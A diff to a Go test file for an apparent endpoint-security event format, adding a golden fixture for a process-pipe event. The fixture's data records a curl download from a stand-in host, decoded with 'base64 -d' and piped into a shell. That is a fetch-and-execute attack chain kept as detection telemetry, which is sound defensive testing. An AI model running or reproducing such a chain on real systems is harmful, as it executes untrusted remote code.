@@ -39,6 +39,19 @@ func linuxExec() *event.Event {
 	}
 }
 
+// linuxPipe has what registry version 2 added.
+func linuxPipe() *event.Event {
+	return &event.Event{
+		Kind: event.ProcessPipe, OS: event.Linux, BootNS: 90_000_000_000, HostTime: 1_795_000_009_000_000, Flags: event.FlagJudged,
+		Lineage: []string{"package-manager"}, Upstream: []string{"/usr/bin/base64", "/usr/bin/curl"},
+		WriterPath: "/usr/bin/curl", WriterCommandLine: "curl -o /tmp/\xc6\xfc https://example.test/x", WriterAge: 1_500_000_000,
+		Actor: event.Process{
+			Key: event.LinuxKey(89_000_000_000, 4300, 0xA1B2C3D4), PID: 4300, ExecID: 1, Path: "/usr/bin/bash", Invoked: "/bin/sh", CommandLine: "sh",
+		},
+		Target: event.Process{Key: event.LinuxKey(88_900_000_000, 4299, 0xA1B2C3D4), PID: 4299, Path: "/usr/bin/base64", CommandLine: "base64 -d"},
+	}
+}
+
 // macConnect is written by hand: no macOS sensor exists yet, but its shapes must fit.
 func macConnect() *event.Event {
 	return &event.Event{
@@ -68,10 +81,10 @@ func goldenEvents(t *testing.T) map[string]*event.Event {
 	if err != nil {
 		t.Fatalf("read the rendered Sysmon record: %v", err)
 	}
-	return map[string]*event.Event{"linux-exec": linuxExec(), "windows-sysmon-1": e, "macos-connect": macConnect()}
+	return map[string]*event.Event{"linux-exec": linuxExec(), "linux-pipe": linuxPipe(), "windows-sysmon-1": e, "macos-connect": macConnect()}
 }
 
-// The bytes of an event are on disk for years: what these three say today, every later version must say.
+// The bytes of an event are on disk for years: what these four say today, every later version must say.
 func TestGoldenBytesStayTheSame(t *testing.T) {
 	for name, e := range goldenEvents(t) {
 		t.Run(name, func(t *testing.T) {
